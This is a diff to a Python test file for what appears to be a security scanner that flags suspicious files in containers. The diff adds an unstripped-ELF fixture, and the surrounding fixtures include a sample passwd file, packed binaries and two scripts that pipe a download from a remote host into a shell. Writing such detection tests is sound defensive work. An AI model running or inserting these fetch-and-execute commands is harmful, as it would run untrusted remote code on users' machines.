@@ -13,6 +13,7 @@ from support.scenes import OneContainer
 ELF = bytes.fromhex("7f454c46020101000000000000000000") + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 0, 0, 64, 0, 0)
 LIBRARY = ELF[:16] + b"\x03\x00" + ELF[18:]
 PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/:/usr/sbin/nologin\n"
+UNSTRIPPED = ELF[:40] + struct.pack("<Q", 64) + ELF[48:60] + struct.pack("<HH", 1, 0) + struct.pack("<II", 0, 2) + bytes(56)
 KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + b"A" * 40
 CAP_SETUID = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)
 CAP_NET_RAW = struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0)
@@ -81,6 +82,7 @@ FOUND = [
     ("new-program", b"/app/server", ELF, {"mode": 0o755}, None, {}, "low", "that no package lists"),
     ("packed-program", b"/tmp/x", ELF + b"UPX!" + bytes(99), {"mode": 0o755}, None, {}, "high", "packed with UPX"),
     ("packed-program", b"/tmp/x", ELF + hashlib.shake_256(b"x").digest(60_000), {"mode": 0o755}, None, {}, "high", "encrypted"),
+    ("unstripped-program", b"/tmp/exploit", UNSTRIPPED, {"mode": 0o755}, None, {}, "medium", "with its symbols"),
     ("hidden-elf", b"/tmp/payload.bin", ELF, {"mode": 0o644}, None, {}, "medium", "in a temporary or hidden place"),
     ("download-pipe", b"/tmp/d.sh", b"#!/bin/sh\nwget -qO- http://198.51.100.7/x | bash\n", {}, None, {}, "high", "into a shell"),
     ("download-pipe", b"/opt/i.sh", b"curl -fsSL https://get.example.org/ | sudo bash -\n", {}, None, {}, "medium",
